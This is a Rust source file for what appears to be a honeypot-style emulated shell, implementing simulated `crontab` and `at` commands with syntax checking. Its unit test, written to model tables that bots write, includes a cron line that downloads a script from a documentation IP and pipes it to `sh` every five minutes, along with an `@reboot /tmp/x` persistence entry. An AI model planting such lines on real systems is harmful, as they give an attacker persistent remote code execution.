//! `crontab` and `at`: the most usual way to come back. Tables are files under `/var/spool/cron/crontabs`, as Debian's cron keeps them.

use super::super::{Call, Finish};
use crate::machine::files::Who;
use crate::machine::world::calendar;

const USAGE: &str = "usage:\tcrontab [-u user] [-n] file\n\tcrontab [ -u user ] [ -i ] { -e | -l | -r }\n\n\t-h\t(displays this help message)\n\n\tfile\t(default operation is replace, per 1003.2)\n\t-n\t(dry run: checks the syntax, then bails out)\n\t-u user\t(choose the user whose crontab is touched)\n\n\t-e\t(edit user's crontab)\n\t-l\t(list user's crontab)\n\t-r\t(delete user's crontab)\n\n\t-i\t(prompt before deleting user's crontab)\n";

fn text(word: &[u8]) -> String {
    String::from_utf8_lossy(word).into_owned()
}

pub(super) fn crontab(call: &mut Call<'_>) -> Finish {
    let given = match super::options_without_hint(call, "u:lreinhsT:", &[]) {
        Ok(given) => given,
        Err(_) => {
            call.err(b"crontab: usage error: unrecognized option\n");
            call.err(USAGE.as_bytes());
            return Finish::Status(1);
        }
    };
    let user = match given.text(b'u') {
        Some(user) if call.kernel.account(user.as_bytes()).is_none() => {
            call.err(format!("crontab:  user `{user}' unknown\n").as_bytes());
            return Finish::Status(1);
        }
        Some(user) => user,
        None => text(&call.kernel.user_name(call.who.uid)),
    };
    let path = format!("/var/spool/cron/crontabs/{user}").into_bytes();
    if given.has(b'h') {
        call.err(USAGE.as_bytes());
        return Finish::Status(0);
    }
    let table = call.kernel.read_path(b"/", &path, Who::ROOT).ok();
    if given.has(b'l') || given.has(b'r') || given.has(b'e') {
        let Some(table) = table else {
            call.err(format!("no crontab for {user}\n").as_bytes());
            return Finish::Status(1);
        };
        if given.has(b'l') {
            call.out(&table);
        } else if given.has(b'r') {
            super::remove(call, &path);
        }
        return Finish::Status(0);
    }
    let source = given.rest.first().cloned().unwrap_or_else(|| b"-".to_vec());
    let new = match call.read(&source) {
        Ok(new) => new,
        Err(fault) => {
            let shown = text(&source);
            call.err(format!("{shown}: {fault}\n").as_bytes());
            return Finish::Status(1);
        }
    };
    if let Some((line, what)) = wrong(&new) {
        let shown = text(&source);
        call.err(
            format!("\"{shown}\":{line}: bad {what}\nerrors in crontab file, can't install.\n")
                .as_bytes(),
        );
        return Finish::Status(1);
    }
    super::put(call, &path, &new);
    super::set_mode(call, &path, 0o600, call.who.uid, 101);
    Finish::Status(0)
}

/// The first line that cron would refuse, and the field that it names.
fn wrong(table: &[u8]) -> Option<(usize, &'static str)> {
    const FIELDS: [&str; 5] = ["minute", "hour", "day-of-month", "month", "day-of-week"];
    for (number, line) in table.split(|byte| *byte == b'\n').enumerate() {
        let line = text(line);
        let line = line.trim_start();
        let names_variable = line.split_once('=').is_some_and(|(name, _)| {
            name.trim().chars().all(|c| c.is_ascii_alphanumeric() || c == '_')
        });
        if line.is_empty() || line.starts_with(['#', '@']) || names_variable {
            continue;
        }
        let mut words = line.split_whitespace();
        for field in FIELDS {
            let word = words.next().unwrap_or_default();
            let starts = word.starts_with(|c: char| c.is_ascii_digit() || c == '*');
            let named = matches!(field, "month" | "day-of-week")
                && word.chars().all(|c| c.is_ascii_alphanumeric() || ",-/*".contains(c));
            if !starts && (word.is_empty() || !named) {
                return Some((number, field));
            }
        }
        if words.next().is_none() {
            return Some((number, "command"));
        }
    }
    None
}

pub(super) fn at(call: &mut Call<'_>) -> Finish {
    let given = match call.options("f:lrdmMvq:t:c", &[], 1) {
        Ok(given) => given,
        Err(finish) => return finish,
    };
    if given.has(b'l') || given.has(b'r') || given.has(b'd') {
        return Finish::Status(0);
    }
    if given.rest.is_empty() && given.value(b't').is_none() {
        call.err(b"Garbled time\n");
        return Finish::Status(1);
    }
    match given.value(b'f').map(<[u8]>::to_vec) {
        Some(path) => drop(call.read(&path)),
        None => drop(call.input()),
    }
    if call.is_console() {
        return Finish::Status(0);
    }
    let time = calendar(call.kernel.seconds() / 60 * 60);
    call.err(format!("warning: commands will be executed using /bin/sh\njob 1 at {} {} {:2} {:02}:{:02}:00 {}\n", time.short_day(), time.short_month(), time.day, time.hour, time.minute, time.year).as_bytes());
    Finish::Status(0)
}

#[cfg(test)]
mod tests {
    use super::wrong;

    #[test]
    fn tables_that_bots_write_are_taken_and_others_named_by_their_field() {
        assert_eq!(
            wrong(b"*/5 * * * * curl http://198.51.100.7/x | sh\n@reboot /tmp/x\nMAILTO=\"\"\n"),
            None
        );
        assert_eq!(wrong(b"1 2 3 jan mon x\n"), None);
        assert_eq!(wrong(b"not a line\n"), Some((0, "minute")));
        assert_eq!(wrong(b"\n* * *\n"), Some((1, "month")));
    }
}
